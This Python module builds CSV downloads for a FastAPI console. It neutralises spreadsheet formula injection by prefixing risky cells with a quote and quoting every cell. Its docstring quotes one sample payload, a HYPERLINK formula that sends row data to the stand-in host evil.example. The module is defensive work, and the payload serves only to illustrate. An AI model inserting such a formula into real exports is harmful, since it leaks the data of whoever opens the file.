"""CSV exports that a spreadsheet opens as data, never as formulas.

The console's exports carry what visitors typed (their names, what they asked for), and the owner
opens them in Excel or LibreOffice, which run a cell beginning with `=`, `+`, `-` or `@` as a
formula — `=HYPERLINK("http://evil.example/?d="&A2,"x")` sends the row's other cells to a stranger
on one click — and may skip a leading tab or carriage return before looking. OWASP's rule is
followed: such a text cell is written with a single quote in front, which spreadsheets show as
text. Every cell is also quoted, so a separator inside a value never starts a new cell.

The rule is applied to every text cell whatever its column, phones included: a phone begins with
`+`, so it comes out as `'+7 916 ***-**-67` — still readable, and no column has to be trusted to
hold only what it should. Numbers are written as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from fastapi.responses import Response

# The characters a spreadsheet starts a formula with, or skips before one (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_data(cell: object) -> object:
    """The cell as a spreadsheet should read it: text that could start a formula gets a `'`."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def csv_response(
    header: Sequence[str], rows: Iterable[Sequence[object]], filename: str
) -> Response:
    """A CSV download: UTF-8 with a byte-order mark (so Excel reads the Cyrillic), every cell
    quoted and every text cell passed through `as_data`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)
    writer.writerow(header)
    writer.writerows([as_data(cell) for cell in row] for row in rows)
    return Response(
        "\ufeff" + buffer.getvalue(),
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
